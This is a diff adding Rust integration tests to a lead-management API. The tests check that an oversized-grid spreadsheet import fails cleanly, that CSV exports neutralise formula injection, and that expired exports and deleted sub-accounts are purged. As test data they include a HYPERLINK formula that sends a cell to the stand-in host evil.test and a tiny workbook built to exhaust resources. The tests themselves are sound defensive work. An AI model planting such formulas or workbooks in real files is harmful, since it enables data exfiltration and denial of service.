@@ -190,3 +190,149 @@ async fn jobs_are_tenant_scoped_and_bad_requests_say_what_to_fix() {
     };
     assert_eq!(export("export-1").await, export("export-1").await);
 }
+
+/// The workbook from the hardening issue: a few KB whose only cells are A1
+/// and XFD1048576, so its sheet spans 16,384 × 1,048,576 cells.
+fn whole_grid_workbook() -> Vec<u8> {
+    let mut workbook = rust_xlsxwriter::Workbook::new();
+    let sheet = workbook.add_worksheet();
+    sheet.write_string(0, 0, "name").unwrap();
+    sheet.write_string(1_048_575, 16_383, "boom").unwrap();
+    workbook.save_to_buffer().unwrap()
+}
+
+#[tokio::test]
+async fn a_workbook_spanning_the_whole_grid_is_dead_with_a_clear_error_and_nothing_else_is_harmed() {
+    for profile in BOTH {
+        let app = spawn_app(profile).await;
+        let token = owner(&app, "grid.test").await;
+        let workbook = whole_grid_workbook();
+        assert!(workbook.len() < 10_000, "tiny on the wire: {} bytes", workbook.len());
+        let (status, accepted) = app.upload(&token, "/api/v1/leads/import", "grid.xlsx", &workbook).await;
+        assert_eq!(status, 202, "{accepted}");
+        let job = app.wait_for_job(&token, accepted["jobId"].as_str().unwrap()).await;
+        assert_eq!((job["status"].as_str(), job["attempts"].as_u64()), (Some("dead"), Some(1)), "{job}");
+        let error = job["error"].as_str().unwrap();
+        assert!(error.contains("too large") && error.contains("1048576 rows × 16384 columns"), "{error}");
+
+        // The process is alive and its worker still runs jobs.
+        assert_eq!(app.get("/health/live").await.status(), 200);
+        let (_, accepted) = app.upload(&token, "/api/v1/leads/import", "ok.csv", b"name,email\nAna,ana@grid.test\n").await;
+        let job = app.wait_for_job(&token, accepted["jobId"].as_str().unwrap()).await;
+        assert_eq!((job["status"].as_str(), &job["result"]["inserted"]), (Some("completed"), &json!(1)), "{job}");
+        assert_eq!(app.stored_files("imports"), Vec::<String>::new(), "uploads are deleted once their import ends");
+    }
+}
+
+#[tokio::test]
+async fn csv_exports_neutralise_formulas_and_still_re_import_as_the_same_leads() {
+    let app = spawn_app(crate::helpers::Profile::Embedded).await;
+    let source = owner(&app, "formula.test").await;
+    let hostile = "=HYPERLINK(\"http://evil.test/?x=\"&A1,\"click\")";
+    for lead in [
+        json!({"name": hostile, "phone": "+14155552671"}),
+        json!({"name": "@SUM(1+1)", "email": "at@formula.test", "notes": "-2+3"}),
+        json!({"name": "+Plain Name", "email": "plain@formula.test", "notes": "\tindented"}),
+    ] {
+        let (status, body) = app.call(&source, Method::POST, "/api/v1/leads", Some(lead)).await;
+        assert_eq!(status, 201, "{body}");
+    }
+    let (_, accepted) = app.call(&source, Method::POST, "/api/v1/leads/export", Some(json!({"format": "csv"}))).await;
+    let job_id = accepted["jobId"].as_str().unwrap();
+    app.wait_for_job(&source, job_id).await;
+    let download =
+        app.client.get(format!("{}/api/v1/jobs/{job_id}/download", app.address)).bearer_auth(&source).send().await.unwrap();
+    assert_eq!(download.status(), 200);
+    let file = download.bytes().await.unwrap();
+    let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(file.as_ref());
+    let cells: Vec<String> = reader.records().flat_map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()).collect();
+    assert!(cells.iter().any(|c| c == &format!("'{hostile}")), "the formula is written as text: {cells:?}");
+    assert!(cells.iter().any(|c| c == "'+14155552671"), "{cells:?}");
+    for cell in &cells {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r']), "a live formula in the export: {cell:?}");
+    }
+
+    let target = owner(&app, "formula-copy.test").await;
+    let (_, accepted) = app.upload(&target, "/api/v1/leads/import", "export.csv", &file).await;
+    let job = app.wait_for_job(&target, accepted["jobId"].as_str().unwrap()).await;
+    assert_eq!(job["result"]["inserted"], 3, "{job}");
+    let leads = |token: String| {
+        let app = &app;
+        async move {
+            let (_, page) = app.call(&token, Method::GET, "/api/v1/leads", None).await;
+            page["data"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .map(|l| ["name", "phone", "email", "notes"].map(|k| l[k].to_string()).join("|"))
+                .collect::<BTreeSet<_>>()
+        }
+    };
+    assert_eq!(leads(source.clone()).await, leads(target).await, "the same leads after the round trip");
+}
+
+/// The download's status and, for an error, its JSON body.
+async fn download_status(app: &TestApp, token: &str, job_id: &str) -> (u16, Value) {
+    let url = format!("{}/api/v1/jobs/{job_id}/download", app.address);
+    let response = app.client.get(url).bearer_auth(token).send().await.unwrap();
+    let status = response.status().as_u16();
+    (status, if status == 200 { Value::Null } else { response.json().await.unwrap() })
+}
+
+async fn export(app: &TestApp, token: &str) -> String {
+    let (_, accepted) = app.call(token, Method::POST, "/api/v1/leads/export", Some(json!({}))).await;
+    let job_id = accepted["jobId"].as_str().unwrap().to_owned();
+    assert_eq!(app.wait_for_job(token, &job_id).await["status"], "completed");
+    job_id
+}
+
+#[tokio::test]
+async fn expired_exports_answer_410_and_a_deleted_sub_account_leaves_no_files_or_cache_keys() {
+    for profile in BOTH {
+        let app = spawn_app(profile).await;
+        let (user, _) = register(&app, "owner@retention.test").await;
+        let (status, created) =
+            app.call(&user, Method::POST, "/api/v1/subaccounts", Some(json!({"name": "Retention", "country": "US"}))).await;
+        assert_eq!(status, 201, "{created}");
+        let token = created["accessToken"].as_str().unwrap().to_owned();
+        let tenant = created["subAccount"]["id"].as_str().unwrap().to_owned();
+        let (_, lead) = app.call(&token, Method::POST, "/api/v1/leads", Some(json!({"name": "Ana", "email": "ana@retention.test"}))).await;
+        let (status, _) = app.call(&token, Method::GET, &format!("/api/v1/leads/{}", lead["id"].as_str().unwrap()), None).await;
+        assert_eq!(status, 200, "read once, so it is cached");
+
+        // An export past its time: the purge deletes it and the download says so.
+        let expired = export(&app, &token).await;
+        assert_eq!(download_status(&app, &token, &expired).await.0, 200);
+        let files = frontdesk_files::LocalFileStorage::new(app.files_dir());
+        let later = chrono::Utc::now() + chrono::Duration::seconds(1);
+        let purged = frontdesk_runtime::maintenance::purge_expired_files(&files, std::time::Duration::ZERO, later);
+        assert_eq!(purged.await.unwrap(), 1);
+        let (status, body) = download_status(&app, &token, &expired).await;
+        assert_eq!((status, body["code"].as_str()), (410, Some("gone")), "{body}");
+        assert!(body["message"].as_str().unwrap().contains("expired"), "{body}");
+
+        // A fresh export, then the sub-account goes: its files and cache keys go with it.
+        export(&app, &token).await;
+        assert_eq!(app.stored_files(&format!("exports/{tenant}")).len(), 1);
+        let cached = |app: &TestApp| {
+            let prefix = app.redis_prefix.clone();
+            let tenant = tenant.clone();
+            async move {
+                let Some(prefix) = prefix else { return 0 };
+                let url = std::env::var("TEST_REDIS_URL").unwrap_or_else(|_| "redis://127.0.0.1:6379".into());
+                let mut redis = redis::Client::open(url).unwrap().get_multiplexed_async_connection().await.unwrap();
+                let keys: Vec<String> =
+                    redis::cmd("KEYS").arg(format!("{prefix}lead:{tenant}:*")).query_async(&mut redis).await.unwrap();
+                keys.len()
+            }
+        };
+        if app.redis_prefix.is_some() {
+            assert_eq!(cached(&app).await, 1, "the lead is in the Redis cache");
+        }
+        let (status, body) = app.call(&token, Method::DELETE, &format!("/api/v1/subaccounts/{tenant}"), None).await;
+        assert_eq!(status, 204, "{body}");
+        assert_eq!(app.stored_files(&format!("exports/{tenant}")), Vec::<String>::new());
+        assert_eq!(app.stored_files(&format!("imports/{tenant}")), Vec::<String>::new());
+        assert_eq!(cached(&app).await, 0, "no cache keys of the deleted sub-account");
+    }
+}
